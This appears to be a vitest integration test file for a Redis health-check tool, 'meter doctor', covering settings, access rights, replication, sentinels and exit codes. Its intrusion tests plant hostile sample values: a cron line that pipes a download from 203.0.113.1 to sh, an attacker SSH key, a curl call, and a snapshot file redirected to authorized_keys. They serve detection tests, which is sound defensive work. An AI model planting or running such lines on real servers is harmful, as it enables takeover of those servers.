/** `meter doctor` as it is run against real servers: healthy, badly set, refused, taken over. Times of PINGs are not judged. */
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Redis } from 'ioredis';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import type { CheckId } from '../../src/lib/doctor/model.js';
import type { DoctorReport, WordedCheck } from '../../src/lib/report/doctor/worded.js';
import type { Envelope } from '../../src/lib/report/envelope.js';
import { FULL_USER } from '../support/access-lines.js';
import { auditInside } from '../support/audit.js';
import { makeCertificates } from '../support/certificates.js';
import { CLOSED_PORT } from '../support/closed-port.js';
import { runMeterInside } from '../support/meter-inside.js';
import type { MeterResult } from '../support/meter.js';
import { startCluster } from '../support/redis-cluster.js';
import { startPair } from '../support/redis-pair.js';
import { startSentinel } from '../support/redis-sentinel.js';
import { startAll, startRedis, type TestServer } from '../support/redis-server.js';
import { assertMatchesSchema } from '../support/schema.js';
import { serverHas } from '../support/server-program.js';
import { until } from '../support/waiting.js';
import { loadTinyRelay, TINY_CLOCK } from '../support/tiny-relay.js';

let server: TestServer;
let client: Redis;
let folder: string;
beforeAll(async () => {
  server = await startRedis();
  client = server.client();
  folder = await mkdtemp(join(tmpdir(), 'meter-doctor-'));
});
afterAll(async () => {
  await server?.stop();
  await rm(folder, { recursive: true, force: true });
});
beforeEach(async () => {
  await client.flushall();
  await client.config('RESETSTAT');
});

const run = (args: readonly string[], url = server.url): Promise<MeterResult> => {
  const pings = args.includes('--pings') ? [] : ['--pings', '3'];
  return runMeterInside(['doctor', ...pings, ...(url === '' ? [] : ['-u', url]), ...args], {
    env: { COLUMNS: '100' },
    cwd: folder,
  });
};

async function checks(
  args: readonly string[] = [],
  url = server.url,
): Promise<DoctorReport & { of: (id: CheckId) => WordedCheck }> {
  const result = await run(['--json', ...args], url);
  expect(result).toMatchObject({ code: 0, stderr: '' });
  const envelope = result.json<Envelope<DoctorReport>>();
  await assertMatchesSchema('doctor', envelope);
  return { ...envelope.data, of: (id) => envelope.data.checks.find((check) => check.id === id)! };
}

const state = ({ of }: Awaited<ReturnType<typeof checks>>, ...ids: CheckId[]): string[] => ids.map((id) => of(id).state);

/** Sets settings for one test. */
async function withSettings(settings: Readonly<Record<string, string>>, test: () => Promise<void>): Promise<void> {
  const before = await Promise.all(Object.keys(settings).map(async (name) => (await client.config('GET', name)) as string[]));
  for (const [name, value] of Object.entries(settings)) await client.config('SET', name, value);
  try {
    await test();
  } finally {
    for (const [name = '', value = ''] of before) await client.config('SET', name, value);
  }
}

describe('a relay', () => {
  beforeEach(() => loadTinyRelay(client));

  test('is recognised, and each check says what it saw', async () => {
    const report = await checks(TINY_CLOCK);
    expect(report.applications.map(({ name }) => name)).toEqual(['claude-relay-service']);
    expect(state(report, 'connect', 'slow-log', 'memory', 'eviction', 'clients', 'keys-command', 'intrusion', 'rights')).toEqual(
      Array.from({ length: 8 }, () => 'ok'),
    );
    for (const check of report.checks) {
      if (check.state === 'skipped') expect(check.whyText, check.id).toBeTruthy();
      else expect(check.texts, check.id).not.toEqual([]);
    }
    expect(report.of('ping').evidence[0]).toMatchObject({ code: 'pings', params: { sent: 3 } });
  });

  test('fits one screen, and --all has every check', async () => {
    const { stdout, code } = await run(TINY_CLOCK);
    expect(code).toBe(0);
    expect(stdout.split('\n').length).toBeLessThanOrEqual(41);
    const all = await run([...TINY_CLOCK, '--all']);
    expect(all.stdout).toMatch(/Passed\n/);
    expect(all.stdout).toMatch(/fix-consistency --apply +yes/);
  });

  test('without data on disk and with an evicting policy gets what an audit finds', async () => {
    await withSettings({ 'maxmemory-policy': 'allkeys-lru', maxmemory: '100mb' }, async () => {
      const report = await checks(TINY_CLOCK);
      const { data } = await auditInside(['-u', server.url, ...TINY_CLOCK.slice(2)]);
      for (const [id, code] of [
        ['eviction', 'eviction-can-drop-counters'],
        ['persistence', 'no-persistence'],
      ] as const) {
        const found = data.findings.find((finding) => finding.code === code)!;
        expect(report.of(id)).toMatchObject({
          findings: [code],
          texts: expect.arrayContaining([`${found.title}: ${found.evidence}`]),
        });
        expect(report.of(id).fix?.split(' -u ')[0]).toBe(found.fix.split(' -u ')[0]);
      }
      expect(report.of('eviction').state).toBe('fail');
    });
  });

  test('with its settings file: misspelt and ignored switches, values that do not fit, lines twice', async () => {
    const file = join(folder, 'relay.env');
    const lines = ['ACCOUNT_TEST_SCHEDULER_ENABLD=false', 'ENABLE_HOURLY_STATS=false', 'BILLING_EVENTS_ENABLED=no'];
    await writeFile(
      file,
      [`REDIS_PORT=${server.port}`, 'REDIS_HOST=127.0.0.1', ...lines, 'BILLING_EVENTS_ENABLED=nope'].join('\n'),
    );
    const { evidence, state: ended } = (await checks(['--env-file', file, ...TINY_CLOCK], '')).of('switches');
    expect(ended).toBe('warn');
    expect(evidence).toEqual([
      { code: 'switch-unknown', params: { env: 'ACCOUNT_TEST_SCHEDULER_ENABLD', near: 'ACCOUNT_TEST_SCHEDULER_ENABLED' } },
      { code: 'switch-ignored', params: { switches: [expect.objectContaining({ env: 'ENABLE_HOURLY_STATS' })] } },
      { code: 'switch-value', params: expect.objectContaining({ env: 'BILLING_EVENTS_ENABLED' }) },
      { code: 'switch-twice', params: { env: 'BILLING_EVENTS_ENABLED' } },
    ]);
  });

  test('with a time zone that it does not take as it is written', async () => {
    const file = join(folder, 'zone.env');
    await writeFile(file, `REDIS_PORT=${server.port}\nREDIS_HOST=127.0.0.1\nTIMEZONE_OFFSET=0\n`);
    const result = await run(['--env-file', file, '--json'], '');
    const zone = result.json<Envelope<DoctorReport>>().data.checks.find(({ id }) => id === 'time-zone');
    expect(zone).toMatchObject({ state: 'warn', evidence: [{ code: 'offset-unreadable', params: { readAs: 8 } }] });
  });

  test('with more connections than the server allows, or fewer than its requests need', async () => {
    const many = await checks(['--processes', '20000', ...TINY_CLOCK]);
    expect(many.of('pool')).toMatchObject({ state: 'fail', evidence: [{ code: 'pool', params: { connections: 20_000 } }] });
  });
});

test('connections of a pool are computed from the rate', async () => {
  await client.hset(`token:${'ab12'.repeat(16)}`, { Id: 1, UserId: 1, Name: 'x', RemainQuota: 1, UsedQuota: 1 });
  const few = await checks(['--rate', '5000', '--rtt', '10ms', '--pool', '2']);
  expect(few.of('pool')).toMatchObject({
    state: 'fail',
    evidence: [{ code: 'pool-load', params: { rate: 5000, rttSeconds: 0.01 } }, { code: 'pool' }],
  });
  expect((await checks(['--rate', '1', '--rtt', '1ms', '--pool', '50'])).of('pool').state).toBe('ok');
});

describe('what is switched off is not fine', () => {
  test.each([
    ['latency-events', 'latency-monitor-threshold', '0'],
    ['slow-log', 'slowlog-log-slower-than', '-1'],
    ['command-latency', 'latency-tracking', 'no'],
  ] as const)('%s: %s %s', async (id, name, value) => {
    if (name === 'latency-tracking' && !serverHas('7.0')) return;
    await withSettings({ [name]: value }, async () => {
      const check = (await checks()).of(id);
      expect(check).toMatchObject({ state: 'skipped', why: { code: 'off', params: { setting: name } } });
      expect(check.fix).toContain(`CONFIG SET ${name}`);
    });
  });

  test('and is told where it is on', async () => {
    await withSettings({ 'latency-monitor-threshold': '1', 'slowlog-log-slower-than': '1000' }, async () => {
      await client.call('DEBUG', 'SLEEP', '0.15');
      const report = await checks();
      expect(report.of('slow-log')).toMatchObject({
        state: 'fail',
        evidence: [{ code: 'slow-commands', params: { slowest: { command: 'DEBUG' } } }],
      });
      expect(report.of('latency-events').state).toMatch(/warn|fail/);
      await client.call('SLOWLOG', 'RESET');
      await client.call('LATENCY', 'RESET');
    });
  });
});

describe('a server that was taken over', () => {
  test.each([
    ['backup1', '\n\n*/2 * * * * root cd1 -fsSL http://203.0.113.1/a | sh\n\n', 'cron-line'],
    ['crackit', '\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQ root@kali\n\n', 'ssh-key'],
    ['trojan2', 'curl -s http://203.0.113.1/x', 'shell'],
  ])('has a key %s', async (name, value, holds) => {
    await client.set(name, value);
    const { of } = await checks();
    expect(of('intrusion')).toMatchObject({
      state: 'fail',
      evidence: [{ code: 'planted-keys', params: { keys: [{ name, holds }] } }],
    });
    expect(JSON.stringify(of('intrusion'))).not.toContain('203.0.113.1');
  });

  test('of a name alone is only a warning', async () => {
    await client.rpush('backup1', 'a');
    expect((await checks()).of('intrusion')).toMatchObject({ state: 'warn', evidence: [{ code: 'planted-keys' }] });
    const stats = await client.info('errorstats');
    expect(stats).not.toContain('WRONGTYPE');
  });

  test('or has been told to write its snapshots elsewhere', async () => {
    const other = await startRedis(
      ['--dbfilename', 'authorized_keys', '--enable-protected-configs', 'yes'].slice(0, serverHas('7.0') ? 4 : 2),
    );
    try {
      expect((await checks([], other.url)).of('intrusion')).toMatchObject({
        state: 'fail',
        evidence: [{ code: 'odd-file', params: { setting: 'dbfilename', value: 'authorized_keys' } }],
      });
    } finally {
      await other.stop();
    }
  });
});

describe('who may use it', () => {
  test('a server without a password that only this machine reaches passes, one with a password as well', async () => {
    expect(state(await checks(), 'password', 'tls', 'exposure')).toEqual(['ok', 'ok', 'ok']);
    await withSettings({ requirepass: 'secret-word-1' }, async () => {
      const url = server.url.replace('//', '//:secret-word-1@');
      const report = await checks([], url);
      expect(report.of('password').evidence).toEqual([{ code: 'password-needed', params: {} }]);
      expect(JSON.stringify(report)).not.toContain('secret-word-1');
    });
  });

  test('a server that listens everywhere without a password and protected mode fails', async () => {
    const other = await startRedis(['--bind', '0.0.0.0', '--protected-mode', 'no']);
    try {
      expect(state(await checks([], other.url), 'password', 'exposure')).toEqual(['fail', 'fail']);
    } finally {
      await other.stop();
    }
  });

  test('a connection with TLS is encrypted', async () => {
    const certificates = await makeCertificates();
    const { ca, cert, key } = certificates;
    const args = ['--tls-ca-cert-file', ca, '--tls-cert-file', cert, '--tls-key-file', key, '--tls-auth-clients', 'no'];
    const secure = await startRedis(args, { tls: true });
    try {
      const url = secure.url.replace('redis:', 'rediss:');
      expect((await checks(['--cacert', ca], url)).of('tls').evidence).toEqual([{ code: 'encrypted', params: {} }]);
    } finally {
      await secure.stop();
      await certificates.remove();
    }
  });
});

describe('a user with few rights', () => {
  const become = async (...rules: string[]): Promise<string> => {
    await client.call('ACL', 'SETUSER', 'few', 'reset', 'on', '>pw', '~*', ...rules);
    return server.url.replace('//', '//few:pw@');
  };

  test('learns which verbs these are enough for', async () => {
    const { rights, of } = await checks([], await become(...FULL_USER.split(' ').slice(4)));
    const may = Object.fromEntries(rights.map((each) => [each.verb, each.may]));
    expect(may).toMatchObject({ audit: 'yes', usage: 'no', measure: 'yes', prune: 'no', restore: 'no' });
    expect(rights.find(({ verb }) => verb === 'usage')!.denied).toEqual(expect.arrayContaining(['HMGET', 'SSCAN']));
    expect(of('rights')).toMatchObject({ state: 'warn', fix: expect.stringContaining('+hmget') });
  });

  test('may have all but what undoes a prune', async () => {
    const { rights, of } = await checks([], await become('+@all', '-restore'));
    const may = Object.fromEntries(rights.map((each) => [each.verb, each]));
    expect(may['prune']).toMatchObject({ may: 'partly', denied: ['RESTORE'] });
    expect(may['restore']).toMatchObject({ may: 'no', denied: ['RESTORE'] });
    expect(of('rights').state).toBe('ok');
  });

  test('is not asked about what writes where nothing can be queued', async () => {
    const { rights, of } = await checks([], await become('+@all', '-multi'));
    expect(rights.find(({ verb }) => verb === 'prune')).toMatchObject({ may: 'unknown', denied: [], missing: [] });
    expect(rights.find(({ verb }) => verb === 'audit')!.may).toBe('yes');
    expect(of('rights').state).toBe('ok');
  });

  test('gets every check that the rights allow, and the reason of the others', async () => {
    const report = await checks([], await become('-@all', '+ping', '+scan', '+info'));
    expect(report.of('slow-log')).toMatchObject({
      state: 'skipped',
      why: { code: 'denied', params: { command: 'SLOWLOG GET' } },
    });
    expect(report.of('intrusion')).toMatchObject({ state: 'skipped', why: { code: 'denied' } });
    expect(report.of('provider').evidence[0]!.params).toMatchObject({
      denied: expect.arrayContaining(['SLOWLOG', 'CONFIG GET']),
    });
    const less = await checks([], await become('-@all', '+ping'));
    expect(less.of('memory')).toMatchObject({ state: 'skipped', why: { code: 'not-told' } });
    expect(less.of('time-zone')).toMatchObject({ state: 'skipped', why: { code: 'unknown-application' } });
  });

  test('is not reported as a client whose commands fail, however often it asks', async () => {
    const url = await become('+@all', '-memory|usage', '-restore', '-dump', '-slowlog', '-latency');
    for (let times = 0; times < 25; times++) await checks(['--pings', '0'], url);
    expect(await client.info('errorstats')).toMatch(/NOPERM:count=\d{2,}/);
    expect((await checks(['--pings', '0'], url)).of('errors')).toMatchObject({ findings: [], evidence: [{ code: 'no-errors' }] });
  });
});

test('a server that asks for a password counts our question for it, and the check does not', async () => {
  await withSettings({ requirepass: 'pw' }, async () => {
    const url = server.url.replace('//', '//:pw@');
    for (let times = 0; times < 25; times++) await checks(['--pings', '0'], url);
    expect((await checks(['--pings', '0'], url)).of('errors')).toMatchObject({ state: 'ok', findings: [] });
  });
});

test('errors of others are counted, and what an audit finds of them is found here', async () => {
  for (let times = 0; times < 30; times++) await client.call('EVALSHA', 'a'.repeat(40), '0').catch(() => {});
  const { of } = await checks();
  expect(of('errors')).toMatchObject({ state: 'warn', findings: ['failed-calls'] });
  expect(of('errors').evidence).toEqual([
    { code: 'error-counts', params: expect.objectContaining({ errors: [{ name: 'NOSCRIPT', count: 30, now: 0 }] }) },
  ]);
});

test('a client that loads its scripts again as it should is no finding', async () => {
  for (let times = 0; times < 3; times++) {
    await client.call('SCRIPT', 'FLUSH');
    await client.call('EVALSHA', '1'.repeat(40), '0').catch(() => client.call('EVAL', 'return 1', '0'));
  }
  expect((await checks()).of('errors')).toMatchObject({ state: 'ok', findings: [] });
});

test('nothing is written, and no command that writes is executed', async () => {
  await loadTinyRelay(client);
  await client.config('RESETSTAT');
  const before = await client.info('persistence');
  await checks(TINY_CLOCK);
  const changes = (text: string): string | undefined => /rdb_changes_since_last_save:(\d+)/.exec(text)?.[1];
  expect(changes(await client.info('persistence'))).toBe(changes(before));
  const called = [...(await client.info('commandstats')).matchAll(/^cmdstat_([a-z|]+):calls=([1-9]\d*)/gm)].map(
    ([, name]) => name,
  );
  const writing = (await client.call('ACL', 'CAT', 'write')) as string[];
  expect(called.filter((name) => writing.includes(name!))).toEqual([]);
});

describe('copies', () => {
  test('a replica says whether its master answers', async () => {
    const pair = await startPair();
    try {
      const [master, replica] = [pair.masters[0]!, pair.replicas[0]!];
      expect((await checks([], master.url)).of('replication').evidence[0]).toMatchObject({
        code: 'replicas',
        params: { count: 1 },
      });
      expect((await checks([], replica.url)).of('replication').evidence[0]).toMatchObject({
        code: 'replica-of',
        params: { isUp: true, master: `127.0.0.1:${master.port}` },
      });
      await master.client().config('SET', 'min-replicas-to-write', '2');
      expect((await checks([], master.url)).of('replication')).toMatchObject({
        state: 'fail',
        evidence: [{ code: 'too-few-replicas', params: { count: 1, needed: 2 } }],
      });
    } finally {
      await pair.stop();
    }
  });

  test('the slow log is read without commands of meter itself', async () => {
    await client.call('SLOWLOG', 'RESET');
    const own = server.client();
    await own.client('SETNAME', 'meter');
    await own.call('DEBUG', 'SLEEP', '0.1');
    const slowest = async (): Promise<unknown> => (await checks(['--pings', '0'])).of('slow-log').evidence[0]?.params;
    expect(await slowest()).not.toMatchObject({ slowest: { command: 'DEBUG' } });
    await client.call('DEBUG', 'SLEEP', '0.1');
    expect(await slowest()).toMatchObject({ slowest: { command: 'DEBUG' } });
    await client.call('SLOWLOG', 'RESET');
  });

  test('a look at a read-only replica adds no error to those that it counts', async () => {
    const pair = await startPair();
    try {
      const replica = pair.replicas[0]!;
      for (let times = 0; times < 2; times++) {
        const { of, rights } = await checks([], replica.url);
        expect(of('errors')).toMatchObject({ state: 'ok', findings: [], evidence: [{ code: 'no-errors' }] });
        expect(rights.find(({ verb }) => verb === 'prune')).toMatchObject({ may: 'unknown', denied: [], missing: [] });
        expect(rights.find(({ verb }) => verb === 'audit')).toMatchObject({ may: 'yes' });
        expect(of('rights').texts[0]).toMatch(/unknown on a replica: .*prune/);
      }
      expect(await replica.client().info('errorstats')).not.toContain('READONLY');
    } finally {
      await pair.stop();
    }
  });

  test('sentinels are asked how many they are, and those that do not answer are counted', async () => {
    const sentinels = await startAll(startSentinel(server.port, '', 2), startSentinel(server.port, '', 2));
    try {
      const [one, other] = sentinels.map(({ port }) => `127.0.0.1:${port}`);
      const failover = async (nodes: readonly string[]): Promise<WordedCheck> =>
        (await checks(['--pings', '0', '--sentinel', nodes.join(','), '--master-name', 'relay'], '')).of('failover');
      // They learn of each other from messages that they send every two seconds.
      await until(async () => JSON.stringify((await failover([one!])).evidence).includes('"known":2'));
      expect(await failover([one!, other!])).toMatchObject({
        state: 'warn',
        evidence: [{ code: 'sentinels', params: { named: 2, answered: 2, known: 2, quorum: 2 } }],
        texts: ['2 of 2 sentinels that were named answer, 2 in all, 2 must agree'],
        fix: expect.stringContaining('three sentinels'),
      });
      expect(await failover([`127.0.0.1:${CLOSED_PORT}`, one!, other!])).toMatchObject({
        state: 'warn',
        evidence: [{ code: 'sentinels', params: { named: 3, answered: 2 } }],
        fix: expect.stringContaining('do not answer'),
      });
      await sentinels[1].stop();
      const report = await checks(['--pings', '0', '--sentinel', `${one},${other}`, '--master-name', 'relay'], '');
      expect(report.of('failover').evidence[0]!.params).toMatchObject({ named: 2, answered: 1, known: 2 });
      expect(report.of('connect').evidence[0]!.params).toMatchObject({ mode: 'sentinel' });
    } finally {
      await Promise.all(sentinels.map((sentinel) => sentinel.stop()));
    }
  });

  test('one sentinel that waits for two can agree on nothing', async () => {
    const alone = await startSentinel(server.port, '', 2);
    try {
      const { of } = await checks(['--pings', '0', '--sentinel', `127.0.0.1:${alone.port}`, '--master-name', 'relay'], '');
      expect(of('failover')).toMatchObject({ state: 'fail', evidence: [{ params: { known: 1, quorum: 2 } }] });
    } finally {
      await alone.stop();
    }
  });

  test('a cluster is asked at every shard, and shards without a replica are named', async () => {
    const cluster = await startCluster({ masters: 2 });
    try {
      const report = await checks([], cluster.masters[0]!.url);
      expect(report.server?.nodes).toBe(2);
      expect(report.of('failover')).toMatchObject({
        state: 'warn',
        evidence: [
          { code: 'masters-alone', params: { count: 2 } },
          { code: 'cluster-state', params: { state: 'ok', masters: 2 } },
        ],
      });
    } finally {
      await cluster.stop();
    }
  });
});

describe('how it ends', () => {
  test('without a connection: exit 5 with a report', async () => {
    const url = `redis://127.0.0.1:${CLOSED_PORT}`;
    const result = await run(['--json'], url);
    expect(result.code).toBe(5);
    const envelope = result.json<Envelope<DoctorReport>>();
    await assertMatchesSchema('doctor', envelope);
    expect(envelope).toMatchObject({ ok: false, error: { code: 'refused' } });
    expect(envelope.data.checks[0]).toMatchObject({ id: 'connect', state: 'fail', fixKind: 'advice' });
    expect(envelope.data.checks.slice(1).every(({ why }) => why?.code === 'no-connection')).toBe(true);
    const text = await run([], url);
    expect(text.stdout).toMatch(/fail +Connection and login/);
  });

  test('by --fail-on: exit 3', async () => {
    await client.set('crackit', 'ssh-rsa AAAAB3NzaC1yc2E');
    expect((await run(['--fail-on', 'fail'])).code).toBe(3);
    await client.flushall();
    expect((await run(['--fail-on', 'fail', '--pings', '0'])).code).toBe(0);
  });

  test('by --max-commands: exit 6, and what was not asked says so', async () => {
    const result = await run(['--json', '--max-commands', '60']);
    expect(result.code).toBe(6);
    const { data } = result.json<Envelope<DoctorReport>>();
    expect(data.partial).toBe('command-budget');
    expect(data.checks.some(({ why }) => why?.code === 'ended')).toBe(true);
  });

  test('as CSV: one row for each check', async () => {
    const { stdout } = await run(['--format', 'csv']);
    const rows = stdout.trimEnd().split('\n');
    expect(rows[0]).toBe('id,group,state,evidence,why,fix');
    expect(rows).toHaveLength(29);
  });

  test.each([
    [['--rtt', '1ms'], '--rate'],
    [['--rate', 'many'], '--rate takes'],
    [['--db', 'all'], 'one database'],
  ])('%j is a usage error', async (args, words) => {
    const { code, stderr } = await run(args);
    expect(code).toBe(2);
    expect(stderr).toContain(words);
  });
});
